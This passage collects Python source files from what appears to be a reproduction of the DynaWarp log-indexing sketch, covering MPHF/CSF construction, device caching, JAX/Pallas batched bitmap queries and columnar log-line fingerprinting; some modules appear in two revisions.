        vprobe = jax.vmap(one)
        spec = P(segment_axes, None)
        with mesh:
            words = jax.device_put(stacked.words,
                                   NamedSharding(mesh, spec))
            rank = jax.device_put(stacked.block_rank,
                                  NamedSharding(mesh, spec))
            out = jax.jit(vprobe,
                          in_shardings=(NamedSharding(mesh, spec),
                                        NamedSharding(mesh, spec)),
                          out_shardings=(NamedSharding(mesh, P(segment_axes,
                                                               None)),) * 2
                          )(words, rank)
        return out
    # heterogeneous: per-segment unroll on host-visible metadata
    return probe_block(stacked.words, stacked.block_rank, range(s))
