"""The immutable DynaWarp sketch (§3.3/§4.2): MPHF + signatures +
compressed static function + BIC posting lists, in a single flat buffer.

Build pipeline (host):
  SealedContent -> rank lists by reference count -> MPHF over fingerprints
  -> CSF(minimal hash -> rank) -> signature bits -> BIC bit stream.

Query pipeline:
  * host   : Algorithm 3 via numpy (query.py)
  * device : batched jnp / Pallas probe over the flat uint32 buffers,
             plus optional dense bitmap planes for on-device boolean
             algebra across query tokens (TPU adaptation, DESIGN.md §3).
"""
from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

import jax.numpy as jnp

from . import bic
from .bitio import np_peek_bits, pack_bitmap_planes, pack_fixed_width
from .csf import CompressedStaticFunction, build_csf
from .hashing import np_seeded_hash32, scalar_seeded_hash32, token_fingerprint
from .mphf import MPHF, build_mphf
from .mutable_sketch import SealedContent

SIG_SEED = 0x516E4715
DEFAULT_SIG_BITS = 8
DEFAULT_PLANE_BUDGET = 64 << 20  # bytes of optional device bitmap planes

# Process-global device-cache registries keyed by DURABLE segment id
# ("<abs file path>@g<generation>", assigned by the manifest-based store).
# RAM-only sketches memoize on the object as before; durable sketches share
# these registries so reopening a store in the same process re-uploads
# nothing it already staged — the id, not Python object identity, names the
# uploaded buffers.  Entries are dropped with the segment files (compaction
# orphan GC calls drop_device_cache / discard_durable_caches).
_DURABLE_DEVICE_CACHES: dict[str, dict] = {}
_DURABLE_ROW_CACHES: dict[str, dict] = {}
_DURABLE_SHARD_SLOTS: dict[str, int] = {}


def discard_durable_caches(durable_id_or_path: str) -> None:
    """Free every registry entry of a durable segment id — or, given a bare
    file path, of EVERY generation of that path (orphan GC deletes files;
    a later path reuse must never see stale buffers)."""
    prefix = durable_id_or_path + "@"
    for reg in (_DURABLE_DEVICE_CACHES, _DURABLE_ROW_CACHES,
                _DURABLE_SHARD_SLOTS):
        for k in [k for k in reg
                  if k == durable_id_or_path or k.startswith(prefix)]:
            del reg[k]


@dataclass
class ImmutableSketch:
    mphf: MPHF
    csf: CompressedStaticFunction
    signatures: np.ndarray      # packed sig_bits-wide signatures by min-hash
    sig_bits: int
    bic_bits: np.ndarray        # u32 BIC stream of all deduplicated lists
    bic_offsets: np.ndarray     # (L+1,) int64 bit offsets (rank -> offset)
    bic_counts: np.ndarray      # (L,) int64 postings per list
    n_postings: int
    n_tokens: int
    planes: np.ndarray | None = None   # (L, ceil(P/32)) u32 device bitmaps
    stats: dict = field(default_factory=dict)
    # Retained SealedContent (full fingerprints + lists) when the segment
    # must stay mergeable by the cold-segment compactor; MPHFs alone are
    # not mergeable.  Excluded from size accounting (host-side scratch).
    sealed_source: SealedContent | None = None
    # Durable segment id ("<abs path>@g<gen>") once the manifest-based
    # store has published this segment to disk; keys the process-global
    # device-cache registries instead of object identity.
    durable_id: str | None = None

    # ------------------------------------------------------------------ sizes
    @property
    def n_lists(self) -> int:
        return len(self.bic_counts)

    def size_bits(self, *, include_planes: bool = False) -> int:
        total = (self.mphf.size_bits() + self.csf.size_bits()
                 + self.signatures.size * 32
                 + self.bic_bits.size * 32
                 + self.bic_offsets.size * 64 + self.bic_counts.size * 16)
        if include_planes and self.planes is not None:
            total += self.planes.size * 32
        return total

    def size_bytes(self, **kw) -> int:
        return (self.size_bits(**kw) + 7) // 8

    # ------------------------------------------------------------------ query
    def probe_fingerprints_np(self, fps: np.ndarray
                              ) -> tuple[np.ndarray, np.ndarray]:
        """Batched membership probe.  Returns (present bool, rank int64);
        rank is only meaningful where present."""
        fps = np.asarray(fps, dtype=np.uint32)
        idx, absent = self.mphf.lookup_np(fps)
        idx = np.clip(idx, 0, max(self.n_tokens - 1, 0))
        sig = self._sig_at_np(idx)
        want = np_seeded_hash32(fps, SIG_SEED) & np.uint32((1 << self.sig_bits) - 1)
        present = (~absent) & (sig == want) & (self.n_tokens > 0)
        rank = np.where(present, self.csf.get_np(idx), 0)
        return present, rank

    def probe_fp_scalar(self, fp: int) -> tuple[bool, int]:
        """Single-fingerprint probe on the python-int fast path (Alg. 3
        inner loop): MPHF -> signature -> CSF rank.  Avoids per-call numpy
        dispatch (~40x for needle queries, EXPERIMENTS.md §Perf)."""
        from .bitio import peek_bits
        from .hashing import scalar_seeded_hash32
        if self.n_tokens == 0:
            return False, 0
        idx, absent = self.mphf.lookup_scalar(fp)
        if absent:
            return False, 0
        idx = min(idx, self.n_tokens - 1)
        sig = peek_bits(self.signatures, idx * self.sig_bits, self.sig_bits)
        want = scalar_seeded_hash32(fp, SIG_SEED) & ((1 << self.sig_bits) - 1)
        if sig != want:
            return False, 0
        return True, self.csf.get_scalar(idx)

    def _sig_at_np(self, idx: np.ndarray) -> np.ndarray:
        bitpos = idx.astype(np.int64) * self.sig_bits
        return np_peek_bits(self.signatures, bitpos,
                            np.full(idx.shape, self.sig_bits, np.int64))

    def postings_for_rank(self, rank: int) -> np.ndarray:
        return bic.decode_list(self.bic_bits, self.bic_offsets,
                               self.bic_counts, int(rank), self.n_postings)

    def query_token(self, token: bytes) -> np.ndarray | None:
        """Host single-token query: None if definitely/probably absent."""
        fp = np.asarray([token_fingerprint(token)], dtype=np.uint32)
        present, rank = self.probe_fingerprints_np(fp)
        if not present[0]:
            return None
        return self.postings_for_rank(int(rank[0]))

    # ---------------------------------------------------------------- device
    def device_arrays(self) -> dict:
        arrs = dict(self.mphf.device_arrays())
        arrs.update({f"csf_{k}": v for k, v in self.csf.device_arrays().items()})
        arrs["signatures"] = jnp.asarray(self.signatures)
        # dynamic clip bounds: the probe body reads them from the dict, so
        # one traced graph serves this sketch and any padded stacked row
        arrs["n_tokens1"] = jnp.asarray(max(self.n_tokens - 1, 0), jnp.int32)
        if self.planes is not None:
            arrs["planes"] = jnp.asarray(self.planes)
            arrs["n_lists1"] = jnp.asarray(max(self.n_lists - 1, 0),
                                           jnp.int32)
        return arrs

    def device_cache(self) -> dict:
        """Memoized :meth:`device_arrays` — the per-segment device cache of
        the batched query engine.  The flat sketch buffers are uploaded on
        first use and reused by every later query wave in the process.
        Durable segments (published by the manifest-based store) memoize in
        a process-global registry keyed by :attr:`durable_id`, so a store
        reopened in the same process re-uploads nothing it already staged."""
        if self.durable_id is not None:
            arrs = _DURABLE_DEVICE_CACHES.get(self.durable_id)
            if arrs is None:
                arrs = _DURABLE_DEVICE_CACHES[self.durable_id] = \
                    self.device_arrays()
            return arrs
        arrs = getattr(self, "_device_cache_arrs", None)
        if arrs is None:
            arrs = self.device_arrays()
            self._device_cache_arrs = arrs
        return arrs

    def has_device_cache(self) -> bool:
        """Whether this segment's flat buffers are already staged on device
        (the engines' upload accounting — durable-id aware)."""
        if self.durable_id is not None:
            return self.durable_id in _DURABLE_DEVICE_CACHES
        return getattr(self, "_device_cache_arrs", None) is not None

    def device_row_cache(self, key, device, build) -> tuple[dict, bool]:
        """Per-(layout, device) memo of this segment's padded shard row —
        the sharded-engine counterpart of :meth:`device_cache`.  ``build``
        returns the padded HOST arrays; they are uploaded to ``device``
        on first use and reused by every later wave AND by every engine
        rebuild (compaction keeps unchanged segments' shard buffers;
        durable segments key the registry by :attr:`durable_id`, so even a
        reopened store's rows stay staged).  Returns (arrays, uploaded_now)."""
        import jax
        if self.durable_id is not None:
            cache = _DURABLE_ROW_CACHES.setdefault(self.durable_id, {})
        else:
            cache = getattr(self, "_device_row_caches", None)
            if cache is None:
                cache = self._device_row_caches = {}
        k = (key, getattr(device, "id", device))
        arrs = cache.get(k)
        if arrs is not None:
            return arrs, False
        arrs = {name: jax.device_put(v, device)
                for name, v in build().items()}
        cache[k] = arrs
        return arrs, True

    def get_shard_slot(self) -> int | None:
        """Stable shard placement (durable-id aware): a segment keeps the
        slot it was first given so its uploaded rows survive engine
        rebuilds AND store reopens within one process."""
        if self.durable_id is not None:
            return _DURABLE_SHARD_SLOTS.get(self.durable_id)
        return getattr(self, "_shard_slot", None)

    def set_shard_slot(self, slot: int) -> None:
        if self.durable_id is not None:
            _DURABLE_SHARD_SLOTS[self.durable_id] = int(slot)
        else:
            self._shard_slot = int(slot)

    def drop_device_cache(self) -> None:
        """Invalidate the memoized device arrays (called on segments merged
        away by compaction so their device buffers can be freed).  A durable
        segment also loses its registry identity: its file is about to be
        GC'd, and an in-flight wave still probing it (background compaction)
        must fall back to the per-object memo — re-inserting under the dead
        durable id would leak the upload for the rest of the process."""
        self._device_cache_arrs = None
        self._device_row_caches = None
        if self.durable_id is not None:
            discard_durable_caches(self.durable_id)
            self.durable_id = None

    def _level_layout(self) -> tuple[tuple, tuple]:
        """Static MPHF level metadata — the shard/layout bucket key."""
        return (tuple(int(x) for x in self.mphf.level_bits),
                tuple(int(x) for x in self.mphf.level_word_offset))

    def probe_fingerprints_jnp(self, fps, arrs=None, *, use_kernel=False):
        """jnp oracle of the device probe (mirrors probe_fingerprints_np).
        ``use_kernel=True`` routes the MPHF lookup through the Pallas
        ``sketch_probe`` kernel instead of the pure-jnp mirror."""
        if arrs is None:
            arrs = self.device_arrays()
        fps = fps.astype(jnp.uint32)
        if use_kernel:
            lb, lo = self._level_layout()
            return probe_tokens_from(fps, arrs, level_bits=lb,
                                     level_word_offset=lo,
                                     sig_bits=self.sig_bits)
        idx, absent = self.mphf.lookup_jnp(fps, arrs)
        return _resolve_probe(fps, idx, absent, arrs, self.sig_bits)

    def match_bitmap_jnp(self, fps, arrs=None, *, use_kernel=False):
        """(Q, W) u32 posting bitmaps per query fingerprint; absent tokens
        yield all-zero rows.  Requires bitmap planes."""
        if self.planes is None:
            raise ValueError("bitmap planes were not built for this sketch")
        if arrs is None:
            arrs = self.device_arrays()
        if use_kernel:
            lb, lo = self._level_layout()
            return match_bitmap_from(fps, arrs, level_bits=lb,
                                     level_word_offset=lo,
                                     sig_bits=self.sig_bits)
        present, rank = self.probe_fingerprints_jnp(fps, arrs,
                                                    use_kernel=False)
        rows = arrs["planes"][jnp.clip(rank, 0, arrs["n_lists1"])]
        return jnp.where(present[:, None], rows, jnp.uint32(0))


def _resolve_probe(fps, idx, absent, arrs, sig_bits: int):
    """Minimal-hash -> (present, rank): signature check + CSF decode.
    Every bound is data (``n_tokens1``, ``csf_n1``), so the traced body is
    layout-independent past the MPHF lookup."""
    from .hashing import seeded_hash32
    idx = jnp.clip(idx, 0, arrs["n_tokens1"])
    bitpos = idx * sig_bits
    sig = _jnp_peek_fixed(arrs["signatures"], bitpos, sig_bits)
    want = seeded_hash32(fps, SIG_SEED) & jnp.uint32((1 << sig_bits) - 1)
    present = (~absent) & (sig == want)
    csf_arrs = {k[len("csf_"):]: v for k, v in arrs.items()
                if k.startswith("csf_")}
    from .csf import csf_get_jnp
    rank = jnp.where(present, csf_get_jnp(idx, csf_arrs), 0)
    return present, rank


def probe_tokens_from(fps, arrs, *, level_bits: tuple,
                      level_word_offset: tuple, sig_bits: int):
    """THE device probe code path (Pallas MPHF kernel + signature check +
    CSF rank), parameterized by an ``ImmutableSketch.device_arrays`` dict.
    The single-device engine passes a segment's own arrays; the sharded
    engine passes a zero-padded row sliced from a stacked per-shard buffer
    — both produce bit-identical (present, rank)."""
    from ..kernels.sketch_probe.ops import mphf_probe_arrs
    fps = fps.astype(jnp.uint32)
    idx, absent = mphf_probe_arrs(fps, arrs, level_bits=level_bits,
                                  level_word_offset=level_word_offset)
    return _resolve_probe(fps, idx, absent, arrs, sig_bits)


def match_bitmap_from(fps, arrs, *, level_bits: tuple,
                      level_word_offset: tuple, sig_bits: int):
    """(Q, W) u32 posting bitmaps via :func:`probe_tokens_from` + plane
    gather; absent tokens (and all-zero padded rows) yield zero rows."""
    present, rank = probe_tokens_from(fps, arrs, level_bits=level_bits,
                                      level_word_offset=level_word_offset,
                                      sig_bits=sig_bits)
    rows = arrs["planes"][jnp.clip(rank, 0, arrs["n_lists1"])]
    return jnp.where(present[:, None], rows, jnp.uint32(0))


def _jnp_peek_fixed(words, bitpos, nbits: int):
    word = bitpos >> 5
    off = (bitpos & 31).astype(jnp.uint32)
    w0 = words[word]
    w1 = words[jnp.minimum(word + 1, words.shape[0] - 1)]
    lo = w0 >> off
    hi = jnp.where(off > 0, w1 << (jnp.uint32(32) - off), jnp.uint32(0))
    return (lo | hi) & jnp.uint32((1 << nbits) - 1)


# ---------------------------------------------------------------------- build
def build_immutable(content: SealedContent, *,
                    sig_bits: int = DEFAULT_SIG_BITS,
                    plane_budget_bytes: int = DEFAULT_PLANE_BUDGET,
                    gamma: float = 2.0) -> ImmutableSketch:
    n_tokens = len(content.fps)
    n_lists = len(content.lists)
    # 1. rank lists by reference count, descending (§3.3)
    order = np.argsort(-content.refcounts, kind="stable")
    rank_of_list = np.empty(n_lists, dtype=np.int64)
    rank_of_list[order] = np.arange(n_lists)
    token_ranks = rank_of_list[content.list_ids] if n_tokens else \
        np.empty(0, np.int64)

    # 2. MPHF over fingerprints
    mphf = build_mphf(content.fps, gamma=gamma)
    if n_tokens:
        idx, absent = mphf.lookup_np(content.fps)
        assert not absent.any(), "MPHF must resolve every construction key"
        assert len(np.unique(idx)) == n_tokens, "MPHF must be injective"
    else:
        idx = np.empty(0, np.int64)

    # 3. CSF of ranks in minimal-hash order
    values_mh = np.zeros(max(n_tokens, 1), dtype=np.int64)
    values_mh[idx] = token_ranks
    csf = build_csf(values_mh[:n_tokens] if n_tokens else np.zeros(1, np.int64))

    # 4. signature bits in minimal-hash order
    sigs_tok = np_seeded_hash32(content.fps, SIG_SEED) \
        & np.uint32((1 << sig_bits) - 1)
    sigs_mh = np.zeros(max(n_tokens, 1), dtype=np.uint32)
    sigs_mh[idx] = sigs_tok
    signatures = pack_fixed_width(sigs_mh[:max(n_tokens, 1)], sig_bits)

    # 5. BIC-encode lists in rank order
    lists_by_rank = [content.lists[i] for i in order]
    bic_bits, bic_offsets, bic_counts = bic.encode_lists(
        lists_by_rank, content.n_postings)

    # 6. optional device bitmap planes (vectorized scatter over all lists)
    planes = None
    words = (max(content.n_postings, 1) + 31) // 32
    if n_lists and n_lists * words * 4 <= plane_budget_bytes:
        planes = pack_bitmap_planes(lists_by_rank, content.n_postings)

    stats = dict(content.stats)
    stats.update(n_tokens=n_tokens, n_lists=n_lists,
                 n_postings=content.n_postings,
                 dedup_ratio=(1.0 - n_lists / n_tokens) if n_tokens else 0.0)
    return ImmutableSketch(
        mphf=mphf, csf=csf, signatures=signatures, sig_bits=sig_bits,
        bic_bits=bic_bits, bic_offsets=bic_offsets, bic_counts=bic_counts,
        n_postings=content.n_postings, n_tokens=n_tokens, planes=planes,
        stats=stats)
