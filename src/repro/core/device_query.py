"""Beyond-paper: fully device-side batched query evaluation.

The paper's Alg. 3 is a sequential host loop (probe token -> decode list
-> boolean consumer).  On TPU the same semantics evaluate as dense
bitmap algebra in ONE jit:  Q queries x T tokens probe the sketch
(MPHF + signatures + CSF) -> each token resolves to its posting-plane
row -> AND/OR across the token axis -> per-query candidate bitmaps +
popcounts.  The bitset_ops Pallas kernel accelerates the plane
reduction; everything stays in device memory, so a query wave over many
segments is collective-free until the final candidate gather.

Requires the immutable sketch to be built with bitmap planes
(build_immutable(..., plane_budget_bytes=...)), which the paper's layout
supports for segments whose n_lists x n_postings/8 fits the budget.
"""
from __future__ import annotations

import numpy as np

import jax
import jax.numpy as jnp


def batched_match_bitmaps(sketch, fps, arrs=None):
    """fps (Q, T) int32/uint32 -> (Q, T, W) uint32 posting bitmaps
    (absent tokens give zero rows)."""
    q, t = fps.shape
    rows = sketch.match_bitmap_jnp(jnp.asarray(fps).reshape(-1), arrs)
    return rows.reshape(q, t, -1)


def batched_query(sketch, fps, *, op: str = "and", arrs=None):
    """Alg. 3 for a (Q, T) token batch in one jit.

    Returns (bitmaps (Q, W) uint32, counts (Q,) int32).  ``op='and'``:
    batches containing every token of the query; ``'or'``: any token.
    """
    planes = batched_match_bitmaps(sketch, fps, arrs)   # (Q, T, W)
    if op == "and":
        combined = planes[:, 0]
        for i in range(1, planes.shape[1]):
            combined = combined & planes[:, i]
    else:
        combined = planes[:, 0]
        for i in range(1, planes.shape[1]):
            combined = combined | planes[:, i]
    counts = jax.lax.population_count(combined).sum(-1).astype(jnp.int32)
    return combined, counts


def bitmap_to_postings(bitmap_row: np.ndarray, n_postings: int) -> np.ndarray:
    """Host-side expansion of one (W,) uint32 bitmap into posting ids."""
    bits = np.unpackbits(
        np.asarray(bitmap_row, dtype=np.uint32).view(np.uint8),
        bitorder="little")
    return np.nonzero(bits[:n_postings])[0].astype(np.int64)
