"""Beyond-paper: fully device-side batched query evaluation.

The paper's Alg. 3 is a sequential host loop (probe token -> decode list
-> boolean consumer).  On TPU the same semantics evaluate as dense
bitmap algebra in ONE jit:  Q queries x T tokens probe the sketch
(MPHF + signatures + CSF) -> each token resolves to its posting-plane
row -> AND/OR across the token axis -> per-query candidate bitmaps +
popcounts.  The bitset_ops Pallas kernel accelerates the plane
reduction; everything stays in device memory, so a query wave over many
segments is collective-free until the final candidate gather.

Requires the immutable sketch to be built with bitmap planes
(build_immutable(..., plane_budget_bytes=...)), which the paper's layout
supports for segments whose n_lists x n_postings/8 fits the budget.
"""
from __future__ import annotations

import numpy as np

import jax.numpy as jnp


def batched_match_bitmaps(sketch, fps, arrs=None, *, use_kernel=False):
    """fps (Q, T) int32/uint32 -> (Q, T, W) uint32 posting bitmaps
    (absent tokens give zero rows)."""
    q, t = fps.shape
    rows = sketch.match_bitmap_jnp(jnp.asarray(fps).reshape(-1), arrs,
                                   use_kernel=use_kernel)
    return rows.reshape(q, t, -1)


def batched_query(sketch, fps, *, op: str = "and", arrs=None,
                  use_kernel=True):
    """Alg. 3 for a (Q, T) token batch in one jit.

    Returns (bitmaps (Q, W) uint32, counts (Q,) int32).  ``op='and'``:
    batches containing every token of the query; ``'or'``: any token.
    ``use_kernel=True`` routes the MPHF probe and the T-axis plane
    reduction through the Pallas ``sketch_probe`` / ``bitset_ops``
    kernels; ``False`` keeps the pure-jnp mirror (the oracle path)."""
    planes = batched_match_bitmaps(sketch, fps, arrs,
                                   use_kernel=use_kernel)   # (Q, T, W)
    if use_kernel:
        from ..kernels.bitset_ops.ops import bitset_reduce_batch
        return bitset_reduce_batch(planes, op=op)
    from ..kernels.bitset_ops.ref import bitset_reduce_batch_ref
    return bitset_reduce_batch_ref(planes, op=op)


def bitmap_to_postings(bitmap_row: np.ndarray, n_postings: int) -> np.ndarray:
    """Host-side expansion of one (W,) uint32 bitmap into posting ids."""
    bits = np.unpackbits(
        np.asarray(bitmap_row, dtype=np.uint32).view(np.uint8),
        bitorder="little")
    return np.nonzero(bits[:n_postings])[0].astype(np.int64)
