"""TPU-idiomatic batch construction of the deduplicated sketch content.

The paper's mutable sketch performs *online* dedup with pointer-chasing hash
tables — hostile to SIMD/MXU hardware.  On TPU the same deduplicated result
is produced by sort-based grouping:

  1. unique (fingerprint, posting) pairs            -> sort / unique
  2. group postings by fingerprint                  -> segment boundaries
  3. per-group commutative XOR postings hash        -> segmented XOR reduce
  4. dedup groups by (hash, length, content)        -> sort by key + verify

Steps 1-3 are pure vector ops (the jnp mirror below is the oracle for the
Pallas hashing kernel); step 4's verification is a tiny host pass.  Tests
assert the output is *identical* (same lists, same ref-counts, same token
mapping) to the faithful online `MutableSketch`.
"""
from __future__ import annotations

import numpy as np

from .hashing import np_posting_element_hash
from .mutable_sketch import SealedContent


def build_sealed(fps: np.ndarray, postings: np.ndarray,
                 stats: dict | None = None) -> SealedContent:
    """Build deduplicated sealed content from parallel (fp, posting) arrays."""
    fps = np.asarray(fps, dtype=np.uint32)
    postings = np.asarray(postings, dtype=np.int64)
    if fps.shape != postings.shape:
        raise ValueError("fps and postings must be parallel 1-D arrays")
    if fps.size == 0:
        return SealedContent(
            fps=np.empty(0, np.uint32), list_ids=np.empty(0, np.int64),
            lists=[], refcounts=np.empty(0, np.int64), n_postings=0,
            stats=stats or {})

    # 1. unique (fp, posting) pairs, sorted by (fp, posting)
    pairs = (fps.astype(np.uint64) << np.uint64(32)) | postings.astype(np.uint64)
    pairs = np.unique(pairs)
    u_fps = (pairs >> np.uint64(32)).astype(np.uint32)
    u_posts = (pairs & np.uint64(0xFFFFFFFF)).astype(np.int64)

    # 2. group boundaries per fingerprint
    starts = np.flatnonzero(np.r_[True, u_fps[1:] != u_fps[:-1]])
    group_fps = u_fps[starts]
    counts = np.diff(np.r_[starts, len(u_fps)])

    # 3. commutative postings hash per group (vectorized XOR reduce)
    elem_hashes = np_posting_element_hash(u_posts)
    group_hash = np.bitwise_xor.reduceat(elem_hashes, starts)

    # 4. dedup posting lists by (hash, count) with exact content verification
    lists: list[np.ndarray] = []
    refcounts: list[int] = []
    by_key: dict[tuple, list[int]] = {}
    list_ids = np.empty(len(group_fps), dtype=np.int64)
    ends = starts + counts
    for gi in range(len(group_fps)):
        key = (int(group_hash[gi]), int(counts[gi]))
        content = u_posts[starts[gi]:ends[gi]]
        found = -1
        for cand in by_key.get(key, ()):
            if np.array_equal(lists[cand], content):
                found = cand
                break
        if found < 0:
            found = len(lists)
            lists.append(content)
            refcounts.append(0)
            by_key.setdefault(key, []).append(found)
        list_ids[gi] = found
        refcounts[found] += 1

    return SealedContent(
        fps=group_fps, list_ids=list_ids, lists=lists,
        refcounts=np.asarray(refcounts, dtype=np.int64),
        n_postings=int(u_posts.max()) + 1 if len(u_posts) else 0,
        stats=stats or {})


def build_sealed_from_lines(token_sets, *, stats: dict | None = None
                            ) -> SealedContent:
    """Convenience: ``token_sets[i]`` is the token-fingerprint set of posting
    ``i``; flattens into parallel arrays and batch-builds."""
    fp_chunks, post_chunks = [], []
    for pid, fp_set in enumerate(token_sets):
        arr = np.fromiter(fp_set, dtype=np.uint32, count=len(fp_set))
        fp_chunks.append(arr)
        post_chunks.append(np.full(arr.shape, pid, dtype=np.int64))
    if not fp_chunks:
        return build_sealed(np.empty(0, np.uint32), np.empty(0, np.int64),
                            stats)
    return build_sealed(np.concatenate(fp_chunks),
                        np.concatenate(post_chunks), stats)
