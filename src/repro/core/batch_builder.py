"""TPU-idiomatic batch construction of the deduplicated sketch content.

The paper's mutable sketch performs *online* dedup with pointer-chasing hash
tables — hostile to SIMD/MXU hardware.  On TPU the same deduplicated result
is produced by sort-based grouping:

  1. unique (fingerprint, posting) pairs            -> sort / unique
  2. group postings by fingerprint                  -> segment boundaries
  3. per-group commutative XOR postings hash        -> segmented XOR reduce
  4. dedup groups by (hash, length, content)        -> lexsort + vectorized
     content verification against each run head (64-bit hash collisions
     within a (hash, count) run fall back to an exact per-run host pass)

All four steps are vector ops (the jnp mirror below is the oracle for the
Pallas hashing kernel).  Tests assert the output is *identical* (same
lists, same ref-counts, same token mapping) to the faithful online
`MutableSketch`.

The module also hosts the columnar ingest front-end
(:class:`LineFingerprinter`): whole flush batches of log lines are
tokenized once per *unique* line, all new tokens are packed into one
(N, 64) u8 matrix and fingerprinted with a single vectorized rolling-hash
pass — no per-token python hashing on the hot path.
"""
from __future__ import annotations

from collections import OrderedDict

import numpy as np

from .hashing import (np_posting_element_hash, np_token_fingerprints,
                      np_window_fingerprints)
from .mutable_sketch import SealedContent
from .tokenizer import (_ALNUM, _PUNCT, _SEPARATORS, MAX_TOKEN_BYTES,
                        pack_slices, pack_tokens_batch,
                        tokenize_lines_columnar)


def fingerprint_tokens(tokens: list[bytes]) -> np.ndarray:
    """Vectorized 4-byte fingerprints of a token batch (one pack + one
    rolling-hash sweep; bit-identical to scalar ``token_fingerprint``)."""
    max_len = min(MAX_TOKEN_BYTES,
                  max((len(t) for t in tokens), default=1))
    mat, lengths = pack_tokens_batch(tokens, max(max_len, 1))
    return np_token_fingerprints(mat, lengths)


_SEP_U8 = np.frombuffer("".join(sorted(_SEPARATORS)).encode(),
                        dtype=np.uint8)
# n-gram run matrices are packed in power-of-two length buckets above this
# cap, so one pathological long run (minified JSON, base64 blobs) inflates
# only its own bucket; runs at or below the cap (the overwhelming common
# case) share one bucket whose padding is bounded by the cap itself
_NGRAM_PACK_CAP = 32


def _window_fps_bucketed(bu8: np.ndarray, starts: np.ndarray,
                         lens: np.ndarray, run_line: np.ndarray,
                         widths: tuple[int, ...], fp_parts: list,
                         ln_parts: list) -> None:
    """Byte-window n-gram fingerprints of (start, len) runs, appended to
    (fp_parts, ln_parts) per width.  Runs are grouped into one bucket for
    everything <= _NGRAM_PACK_CAP plus a power-of-two width bucket per
    longer size class, each packed at its own width."""
    # frexp exponent == bit_length for positive ints (exact below 2^53)
    tier = np.where(lens <= _NGRAM_PACK_CAP, 0,
                    np.frexp(lens.astype(np.float64))[1])
    for t in np.unique(tier):
        sel = tier == t
        s2, l2, rl = starts[sel], lens[sel], run_line[sel]
        mat, cl = pack_slices(bu8, s2, l2)
        for n in widths:
            rows, fps = np_window_fingerprints(mat, cl, n)
            fp_parts.append(fps)
            ln_parts.append(rl[rows])


def _fingerprint_lines_ascii(lowers: list[str], *, ngrams: bool = True
                             ) -> list[np.ndarray]:
    """Flat-blob columnar path for all-ASCII lowered lines: ONE regex pass
    per token class over the newline-joined blob (newline belongs to no
    token class and is not a rule-4/5 separator, so line boundaries cannot
    leak), then pure array ops — slice packing, vectorized rolling-hash
    fingerprints, byte-window n-grams, and a lexsort per-line dedup."""
    blob = "\n".join(lowers)
    bu8 = np.frombuffer(blob.encode(), dtype=np.uint8)
    line_lens = np.fromiter((len(l) for l in lowers), dtype=np.int64,
                            count=len(lowers))
    line_starts = np.concatenate([[0], np.cumsum(line_lens + 1)[:-1]])

    sa = np.asarray([m.span() for m in _ALNUM.finditer(blob)],
                    dtype=np.int64).reshape(-1, 2)
    sp = np.asarray([m.span() for m in _PUNCT.finditer(blob)],
                    dtype=np.int64).reshape(-1, 2)
    a_line = np.searchsorted(line_starts, sa[:, 0], side="right") - 1
    p_line = np.searchsorted(line_starts, sp[:, 0], side="right") - 1
    a_len = sa[:, 1] - sa[:, 0]
    p_len = sp[:, 1] - sp[:, 0]

    # rules 4/5: consecutive alnum runs joined by one separator / '.' —
    # runs from different lines are separated by at least the newline,
    # which is not a separator, so no per-line grouping is needed
    gap1 = (sa[1:, 0] - sa[:-1, 1]) == 1 if len(sa) > 1 else \
        np.empty(0, bool)
    sep = bu8[sa[:-1, 1]] if len(sa) > 1 else np.empty(0, np.uint8)
    r4 = gap1 & np.isin(sep, _SEP_U8)
    dot = gap1 & (sep == ord("."))
    r5 = dot[:-1] & dot[1:] if len(dot) > 1 else np.empty(0, bool)

    term_starts = [sa[:, 0], sp[:, 0], sa[:-1, 0][r4], sa[:-2, 0][r5]]
    term_lens = [a_len, p_len,
                 sa[1:, 1][r4] - sa[:-1, 0][r4],
                 sa[2:, 1][r5] - sa[:-2, 0][r5]]
    term_lines = [a_line, p_line, a_line[:-1][r4], a_line[:-2][r5]]
    starts = np.concatenate(term_starts)
    lens = np.concatenate(term_lens)
    mat, cl = pack_slices(bu8, starts, lens, MAX_TOKEN_BYTES)
    fp_parts = [np_token_fingerprints(mat, cl)]
    ln_parts = [np.concatenate(term_lines)]

    if ngrams:
        _window_fps_bucketed(bu8, sa[:, 0], a_len, a_line, (3,),
                             fp_parts, ln_parts)
        _window_fps_bucketed(bu8, sp[:, 0], p_len, p_line, (1, 2, 3),
                             fp_parts, ln_parts)

    return _split_unique_per_line(np.concatenate(fp_parts),
                                  np.concatenate(ln_parts), len(lowers))


def _split_unique_per_line(fps: np.ndarray, lns: np.ndarray,
                           n_lines: int) -> list[np.ndarray]:
    """One lexsort dedup over (line, fp) pairs -> per-line fp arrays.
    Chunks are copies, not views, so the LRU does not pin each batch's
    whole concatenated array via a single surviving cached line."""
    order = np.lexsort((fps, lns))
    fps, lns = fps[order], lns[order]
    keep = np.ones(fps.shape, dtype=bool)
    keep[1:] = (fps[1:] != fps[:-1]) | (lns[1:] != lns[:-1])
    fps, lns = fps[keep], lns[keep]
    counts = np.bincount(lns, minlength=n_lines)
    return [c.copy() for c in np.split(fps, np.cumsum(counts)[:-1])]


def fingerprint_lines_columnar(lines, *, ngrams: bool = True
                               ) -> list[np.ndarray]:
    """Per-line unique token fingerprints for a batch of lines, fully
    columnar: one regex pass per line for runs/terms, one vectorized
    rolling-hash over the packed term matrix, and vectorized byte-window
    hashing for the rule-6/7 n-grams — then one lexsort dedup per batch
    instead of per-token set churn."""
    (tokens, tok_line, alnum_runs, alnum_line,
     punct_runs, punct_line) = tokenize_lines_columnar(lines, ngrams=ngrams)
    fp_parts = [fingerprint_tokens(tokens)]
    ln_parts = [np.asarray(tok_line, dtype=np.int64)]
    if ngrams:
        for runs, run_line, widths in ((alnum_runs, alnum_line, (3,)),
                                       (punct_runs, punct_line, (1, 2, 3))):
            if not runs:
                continue
            flat = np.frombuffer(b"".join(runs), dtype=np.uint8)
            rlens = np.fromiter((len(r) for r in runs), dtype=np.int64,
                                count=len(runs))
            rstarts = np.concatenate([[0], np.cumsum(rlens[:-1])])
            _window_fps_bucketed(flat, rstarts, rlens,
                                 np.asarray(run_line, dtype=np.int64),
                                 widths, fp_parts, ln_parts)
    return _split_unique_per_line(np.concatenate(fp_parts),
                                  np.concatenate(ln_parts), len(lines))


class LineFingerprinter:
    """Columnar tokenize -> fingerprint over batches of log lines.

    Lines repeat heavily in real traffic, so unique lines are fingerprinted
    once and memoized in a bounded LRU; cache misses within a batch share a
